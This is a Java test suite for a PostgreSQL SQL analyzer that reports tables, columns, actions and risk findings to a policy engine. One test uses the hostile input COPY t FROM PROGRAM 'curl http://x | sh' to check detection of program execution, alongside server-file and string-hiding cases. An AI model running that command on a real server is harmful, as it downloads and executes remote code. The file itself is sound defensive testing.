package dev.pgpolicy.sql;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;

/** Facts for each construct issue 3 lists, as the policy engine will see them. */
class StatementFactsTest {
    private static final SqlAnalyzer ANALYZER = TestAnalyzers.generousBudget();

    @AfterAll
    static void close() {
        ANALYZER.close();
    }

    static StatementFacts facts(String sql) {
        QueryAnalysis analysis = ANALYZER.analyze(sql);
        assertThat(analysis.statements()).as(sql).hasSize(1);
        return analysis.statements().get(0);
    }

    static StatementFacts parsed(String sql) {
        StatementFacts facts = facts(sql);
        assertThat(facts.parsed()).as("parsed: %s", sql).isTrue();
        return facts;
    }

    /** Tables as "name:action". */
    static List<String> tables(String sql) {
        return parsed(sql).tables().stream().map(t -> t.table() + ":" + t.action().keyword()).toList();
    }

    /** Columns as "table.column:clause", with "*" appended when inside an expression. */
    static List<String> columns(String sql) {
        return parsed(sql).columns().stream()
                .map(c -> (c.table() == null ? "?" : c.table().toString()) + "." + c.column() + ":"
                        + c.clause().name().toLowerCase() + (c.insideExpression() ? "*" : ""))
                .toList();
    }

    static List<String> functions(String sql) {
        return parsed(sql).functions().stream().map(ObjectName::toString).toList();
    }

    @Test
    void joinsReportEveryTableAndAttributeColumnsThroughAliases() {
        String sql = "SELECT c.email, o.total FROM payments.customers c JOIN orders o ON o.customer_id = c.id "
                + "LEFT JOIN items USING (order_id) WHERE c.ssn = '1' ORDER BY o.placed_at";
        assertThat(tables(sql)).containsExactly("payments.customers:select", "orders:select", "items:select");
        assertThat(columns(sql)).contains("payments.customers.email:projection", "orders.total:projection",
                "orders.customer_id:filter*", "payments.customers.id:filter*", "?.order_id:filter",
                "payments.customers.ssn:filter*", "orders.placed_at:filter");
    }

    @Test
    void unqualifiedColumnsBelongToTheOnlyTableOrToNoneWhenAmbiguous() {
        assertThat(columns("SELECT email FROM customers WHERE id = 1"))
                .containsExactly("customers.email:projection", "customers.id:filter*");
        assertThat(columns("SELECT email FROM customers, orders")).containsExactly("?.email:projection");
    }

    @Test
    void expressionsMarkTheirColumns() {
        assertThat(columns("SELECT upper(email), ssn::text, name || 'x', email FROM customers"))
                .containsExactly("customers.email:projection*", "customers.ssn:projection*",
                        "customers.name:projection*", "customers.email:projection");
    }

    @Test
    void groupByHavingAndOrderByAreFilters() {
        assertThat(columns("SELECT country, count(*) FROM customers GROUP BY country HAVING max(age) > 3 ORDER BY country"))
                .contains("customers.country:projection", "customers.country:filter", "customers.age:filter*");
    }

    @Test
    void cteNamesAreNotTablesButTheirBodiesAre() {
        assertThat(tables("WITH big AS (SELECT * FROM orders WHERE total > 5) SELECT * FROM big JOIN customers c ON c.id = big.customer_id"))
                .containsExactly("orders:select", "customers:select");
        // Without RECURSIVE a CTE does not see itself: the inner name is the real table.
        assertThat(tables("WITH customers AS (SELECT * FROM customers) SELECT * FROM customers"))
                .containsExactly("customers:select");
        assertThat(tables("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r")).isEmpty();
        // The target of a data-modifying statement is always a table, even when a CTE has its name.
        assertThat(tables("WITH t AS (SELECT 1) DELETE FROM t WHERE a IN (SELECT * FROM t)"))
                .containsExactly("t:delete");
        // A schema-qualified name never refers to a CTE.
        assertThat(tables("WITH t AS (SELECT 1) SELECT * FROM public.t")).containsExactly("public.t:select");
    }

    @Test
    void dataModifyingCtesReportTheirActions() {
        assertThat(tables("WITH gone AS (DELETE FROM events WHERE old RETURNING *) INSERT INTO archive SELECT * FROM gone"))
                .containsExactly("events:delete", "archive:insert");
        assertThat(tables("WITH a AS (UPDATE t SET x = 1 RETURNING id), b AS (INSERT INTO log(id) SELECT id FROM a RETURNING id) "
                + "SELECT count(*) FROM b")).containsExactly("t:update", "log:insert");
    }

    @Test
    void subqueriesInEveryClause() {
        String sql = "SELECT (SELECT max(x) FROM a), y FROM b WHERE z IN (SELECT z FROM c) "
                + "AND EXISTS (SELECT 1 FROM d) AND w > ALL (SELECT w FROM e) AND v = ANY (SELECT v FROM f) "
                + "GROUP BY y HAVING count(*) > (SELECT count(*) FROM g) ORDER BY (SELECT 1 FROM h LIMIT 1)";
        assertThat(tables(sql)).containsExactlyInAnyOrder("a:select", "b:select", "c:select", "d:select", "e:select",
                "f:select", "g:select", "h:select");
    }

    @Test
    void subqueryColumnsComparedInAFilterAreFilters() {
        assertThat(columns("SELECT id FROM t WHERE x IN (SELECT c.ssn FROM customers c)")).contains("customers.ssn:filter*");
    }

    @Test
    void unqualifiedColumnsInsideSubqueriesMayBeOuterReferences() {
        // If orders has no ssn column, PostgreSQL reads customers.ssn here: the owner is unknown.
        assertThat(columns("SELECT id FROM customers c WHERE EXISTS (SELECT 1 FROM orders WHERE ssn LIKE '1%')"))
                .contains("?.ssn:filter*");
        assertThat(columns("SELECT id FROM customers c WHERE EXISTS (SELECT 1 FROM orders o WHERE c.ssn = o.ref)"))
                .contains("customers.ssn:filter*", "orders.ref:filter*");
    }

    @Test
    void derivedTablesLateralAndFunctionsInFrom() {
        assertThat(tables("SELECT * FROM (SELECT id FROM a) s, LATERAL (SELECT * FROM b WHERE b.id = s.id) l, generate_series(1, 3) g"))
                .containsExactly("a:select", "b:select");
        assertThat(functions("SELECT * FROM generate_series(1, 3) g, unnest(ARRAY[1]) u")).containsExactly("generate_series", "unnest");
    }

    @Test
    void setOperationsReportEveryArm() {
        assertThat(tables("SELECT a FROM x UNION SELECT a FROM y INTERSECT SELECT a FROM z EXCEPT SELECT a FROM w"))
                .containsExactlyInAnyOrder("x:select", "y:select", "z:select", "w:select");
    }

    @Test
    void windowFunctionsAreFunctionsAndTheirPartitionsAreRead() {
        StatementFacts facts = parsed("SELECT id, row_number() OVER (PARTITION BY customer_id ORDER BY placed_at) FROM orders");
        assertThat(facts.functions()).extracting(ObjectName::toString).contains("row_number");
        assertThat(columns("SELECT id, row_number() OVER (PARTITION BY customer_id ORDER BY placed_at) FROM orders"))
                .contains("orders.customer_id:projection*", "orders.placed_at:projection*");
        assertThat(columns("SELECT rank() OVER w FROM orders WINDOW w AS (PARTITION BY status)")).contains("orders.status:filter");
    }

    @Test
    void insertSelectInsertsIntoTheTargetAndReadsTheSources() {
        assertThat(tables("INSERT INTO archive (id, email) SELECT id, email FROM customers WHERE old"))
                .containsExactly("archive:insert", "customers:select");
        assertThat(columns("INSERT INTO archive (id, email) SELECT id, email FROM customers"))
                .contains("archive.id:assignment", "archive.email:assignment", "customers.email:projection");
    }

    @Test
    void onConflictDoUpdateIsAlsoAnUpdate() {
        String sql = "INSERT INTO products AS p (sku, price) VALUES ('a', 1) ON CONFLICT (sku) "
                + "DO UPDATE SET price = EXCLUDED.price WHERE p.price < 5 RETURNING p.id";
        assertThat(tables(sql)).containsExactly("products:insert", "products:update");
        assertThat(columns(sql)).contains("products.sku:filter", "products.price:assignment", "products.price:projection*",
                "products.price:filter*", "products.id:returning");
        assertThat(tables("INSERT INTO products (sku) VALUES ('a') ON CONFLICT DO NOTHING")).containsExactly("products:insert");
    }

    @Test
    void returningColumns() {
        assertThat(columns("DELETE FROM customers WHERE id = 1 RETURNING email, upper(name)"))
                .contains("customers.email:returning", "customers.name:returning*");
    }

    @Test
    void updateFromUpdatesTheTargetAndReadsTheRest() {
        String sql = "UPDATE orders o SET status = c.tier FROM customers c WHERE c.id = o.customer_id";
        assertThat(tables(sql)).containsExactly("orders:update", "customers:select");
        assertThat(columns(sql)).contains("orders.status:assignment", "customers.tier:projection*", "orders.customer_id:filter*");
    }

    @Test
    void deleteUsingDeletesFromTheTargetAndReadsTheRest() {
        assertThat(tables("DELETE FROM orders o USING customers c, hr.x WHERE c.id = o.customer_id"))
                .containsExactly("orders:delete", "customers:select", "hr.x:select");
    }

    @Test
    void mergeReportsMergeAndEachClauseAction() {
        String sql = "MERGE INTO stock s USING deliveries d ON s.item = d.item "
                + "WHEN MATCHED AND d.qty = 0 THEN DELETE "
                + "WHEN MATCHED THEN UPDATE SET qty = s.qty + d.qty "
                + "WHEN NOT MATCHED THEN INSERT (item, qty) VALUES (d.item, d.qty)";
        assertThat(tables(sql)).containsExactlyInAnyOrder("stock:merge", "deliveries:select", "stock:delete",
                "stock:update", "stock:insert");
        assertThat(tables("MERGE INTO t USING s ON t.a = s.a WHEN NOT MATCHED THEN DO NOTHING"))
                .containsExactly("t:merge", "s:select");
    }

    @Test
    void jsonOperatorsArraysAndCasts() {
        String sql = "SELECT data->>'a', tags[1], tags[1:2], ARRAY[x, y], id::text, CAST(total AS int) "
                + "FROM t WHERE data @> '{}' AND data ? 'k' AND data ?| ARRAY['a'] AND tags && $1::text[] AND data @? '$.a'";
        assertThat(tables(sql)).containsExactly("t:select");
        assertThat(columns(sql)).contains("t.data:projection*", "t.tags:projection*", "t.x:projection*", "t.id:projection*",
                "t.total:projection*", "t.data:filter*", "t.tags:filter*");
    }

    @Test
    void dollarQuotedAndEscapedStringsCannotHideSql() {
        assertThat(tables("SELECT $tag$ ' FROM secret -- $tag$ FROM visible")).containsExactly("visible:select");
        assertThat(tables("SELECT E'\\' FROM secret' FROM visible")).containsExactly("visible:select");
        // With standard_conforming_strings the backslash does not escape: "secret" is a real table here.
        assertThat(tables("SELECT 'a\\', b FROM secret")).containsExactly("secret:select");
        assertThat(tables("SELECT /* /* FROM hidden */ */ 1 FROM visible")).containsExactly("visible:select");
    }

    @Test
    void schemaQualifiedAndQuotedIdentifiersAreDecoded() {
        assertThat(tables("SELECT * FROM \"Sales\".\"Orders\" o JOIN PUBLIC.Customers c ON true JOIN U&\"\\0061udit\".log l ON true"))
                .containsExactly("Sales.Orders:select", "public.customers:select", "audit.log:select");
        assertThat(columns("SELECT o.\"Amount\" FROM \"Sales\".\"Orders\" o")).containsExactly("Sales.Orders.Amount:projection");
        assertThat(tables("SELECT * FROM db.s.t")).containsExactly("s.t:select");
    }

    @Test
    void positionalParametersParse() {
        assertThat(tables("SELECT * FROM t WHERE a = $1 AND b = ANY($2)")).containsExactly("t:select");
    }

    @Test
    void functionsCalledAnywhere() {
        assertThat(functions("SELECT lower(a), pg_catalog.upper(b) FROM t WHERE length(c) > coalesce(d, 0) ORDER BY md5(e)"))
                .containsExactly("lower", "pg_catalog.upper", "length", "coalesce", "md5");
    }

    @Test
    void rowsFromCallsEachFunction() {
        assertThat(functions("SELECT * FROM ROWS FROM (generate_series(1, 2), unnest((SELECT tags FROM t LIMIT 1))) AS r(a, b)"))
                .contains("generate_series", "unnest");
        assertThat(tables("SELECT * FROM ROWS FROM (generate_series(1, 2), unnest((SELECT tags FROM t LIMIT 1))) AS r(a, b)"))
                .containsExactly("t:select");
    }

    @Test
    void tableCommandAndValues() {
        assertThat(tables("TABLE payments.cards")).containsExactly("payments.cards:select");
        assertThat(parsed("VALUES (1, 2), (3, 4)").tables()).isEmpty();
        assertThat(tables("SELECT * FROM t WHERE a IN (TABLE u)")).containsExactly("t:select", "u:select");
    }

    @Test
    void selectIntoCreatesATable() {
        assertThat(tables("SELECT id INTO TEMP copy FROM customers")).containsExactly("customers:select", "copy:ddl");
    }

    @Test
    void copyTableDirections() {
        assertThat(tables("COPY customers TO STDOUT (FORMAT csv)")).containsExactly("customers:copy_out");
        assertThat(tables("COPY payments.cards (id, card_number) FROM STDIN")).containsExactly("payments.cards:copy_in");
        assertThat(columns("COPY payments.cards (id, card_number) TO STDOUT")).containsExactly(
                "payments.cards.id:projection", "payments.cards.card_number:projection");
    }

    @Test
    void copyQueryReadsAndCopiesOutEveryTableItReads() {
        assertThat(tables("COPY (SELECT c.email FROM customers c JOIN orders o ON o.customer_id = c.id) TO STDOUT"))
                .containsExactly("customers:select", "orders:select", "customers:copy_out", "orders:copy_out");
    }

    @Test
    void copyOfDataModifyingQueryCopiesOutWhatItReturns() {
        assertThat(tables("COPY (DELETE FROM customers WHERE id = 1 RETURNING *) TO STDOUT"))
                .containsExactly("customers:delete", "customers:copy_out");
    }

    @Test
    void copyProgramAndServerFiles() {
        StatementFacts program = parsed("COPY t FROM PROGRAM 'curl http://x | sh'");
        assertThat(program.tables()).extracting(a -> a.action()).containsExactly(Action.COPY_IN, Action.COPY_PROGRAM);
        assertThat(program.findings()).contains(Heuristic.PROGRAM_EXEC);
        StatementFacts file = parsed("COPY t TO '/tmp/out.csv' WITH (FORMAT csv)");
        assertThat(file.findings()).contains(Heuristic.FILE_ACCESS);
        assertThat(parsed("COPY t TO STDOUT").findings()).doesNotContain(Heuristic.FILE_ACCESS, Heuristic.PROGRAM_EXEC);
    }

    @Test
    void ddlTargets() {
        assertThat(tables("CREATE TABLE IF NOT EXISTS s.t (a int)")).containsExactly("s.t:ddl");
        assertThat(tables("CREATE TEMP TABLE t AS SELECT * FROM src")).containsExactly("t:ddl", "src:select");
        assertThat(tables("CREATE OR REPLACE VIEW v AS SELECT a FROM base WITH CHECK OPTION")).containsExactly("v:ddl", "base:select");
        assertThat(tables("CREATE MATERIALIZED VIEW mv AS SELECT * FROM base WITH NO DATA")).containsExactly("mv:ddl", "base:select");
        assertThat(tables("ALTER TABLE IF EXISTS ONLY payments.cards ADD COLUMN x int")).containsExactly("payments.cards:ddl");
        assertThat(tables("DROP TABLE IF EXISTS a, s.b CASCADE")).containsExactly("a:ddl", "s.b:ddl");
        assertThat(tables("CREATE UNIQUE INDEX CONCURRENTLY IF NOT EXISTS i ON ONLY t (a)")).containsExactly("t:ddl");
        assertThat(tables("CREATE TRIGGER tr BEFORE INSERT ON s.t FOR EACH ROW EXECUTE FUNCTION f()")).containsExactly("s.t:ddl");
        assertThat(tables("CREATE POLICY p ON t USING (true)")).containsExactly("t:ddl");
        assertThat(tables("DROP TRIGGER IF EXISTS tr ON t")).containsExactly("t:ddl");
        assertThat(tables("COMMENT ON COLUMN s.t.c IS 'x'")).containsExactly("s.t:ddl");
        assertThat(tables("CREATE TABLE p1 PARTITION OF parent FOR VALUES IN (1)")).containsExactly("p1:ddl", "parent:ddl");
        StatementFacts function = parsed("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$");
        assertThat(function.kind()).isEqualTo(StatementKind.DDL);
        assertThat(function.tables()).isEmpty();
        assertThat(facts("ALTER TABLE ALL IN TABLESPACE a SET TABLESPACE b").parsed()).isFalse();
    }

    @Test
    void dclOnTables() {
        assertThat(tables("GRANT SELECT, UPDATE (a) ON TABLE t, s.u TO bob")).containsExactly("t:dcl", "s.u:dcl");
        assertThat(parsed("GRANT admin TO bob").tables()).isEmpty();
        assertThat(parsed("REVOKE ALL ON ALL TABLES IN SCHEMA s FROM bob").kind()).isEqualTo(StatementKind.DCL);
    }

    @Test
    void utilityKindsWithTheirObjects() {
        assertThat(tables("TRUNCATE TABLE ONLY a, s.b * RESTART IDENTITY CASCADE")).containsExactly("a:truncate", "s.b:truncate");
        assertThat(tables("LOCK TABLE a, b IN ACCESS EXCLUSIVE MODE NOWAIT")).containsExactly("a:lock", "b:lock");
        assertThat(tables("VACUUM (VERBOSE, ANALYZE) a, s.b (c)")).containsExactly("a:maintenance", "s.b:maintenance");
        assertThat(tables("ANALYZE VERBOSE t")).containsExactly("t:maintenance");
        assertThat(tables("CLUSTER t USING t_pkey")).containsExactly("t:maintenance");
        assertThat(tables("REINDEX TABLE CONCURRENTLY t")).containsExactly("t:maintenance");
        assertThat(tables("REFRESH MATERIALIZED VIEW CONCURRENTLY mv")).containsExactly("mv:maintenance");
        assertThat(parsed("VACUUM").tables()).isEmpty();
        for (String sql : List.of("SET search_path = a, b", "SHOW work_mem", "RESET ALL", "BEGIN ISOLATION LEVEL SERIALIZABLE",
                "COMMIT", "LISTEN c", "NOTIFY c, 'x'", "UNLISTEN *", "DISCARD ALL", "CHECKPOINT", "FETCH 5 FROM c", "CLOSE c",
                "DEALLOCATE p", "EXECUTE p(1)", "LOAD 'x'", "DO $$ BEGIN END $$", "ALTER SYSTEM SET work_mem = '1MB'")) {
            assertThat(parsed(sql).tables()).as(sql).isEmpty();
        }
    }

    @Test
    void wrappersReportTheStatementTheyWrap() {
        assertThat(tables("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t WHERE a = 1")).containsExactly("t:delete");
        assertThat(parsed("EXPLAIN ANALYZE VERBOSE SELECT * FROM t").kind()).isEqualTo(StatementKind.EXPLAIN);
        assertThat(tables("PREPARE p (int) AS UPDATE t SET a = $1")).containsExactly("t:update");
        assertThat(tables("DECLARE c NO SCROLL CURSOR WITH HOLD FOR SELECT * FROM t")).containsExactly("t:select");
        assertThat(functions("CALL s.proc(1, (SELECT max(a) FROM t))")).contains("s.proc");
        assertThat(tables("CALL s.proc(1, (SELECT max(a) FROM t))")).containsExactly("t:select");
    }

    @Test
    void whatTheParserCannotAnalyseIsUnparsedNotGuessed() {
        StatementFacts facts = facts("SELECT xmlelement(name customer, xmlattributes(id AS id), name) FROM customers");
        assertThat(facts.parsed()).isFalse();
        assertThat(facts.findings()).contains(Heuristic.UNPARSED);
        assertThat(facts.kind()).isEqualTo(StatementKind.SELECT);
        assertThat(facts("FROBNICATE the database").parsed()).isFalse();
        assertThat(facts("SELECT 'unterminated").parsed()).isFalse();
    }
}
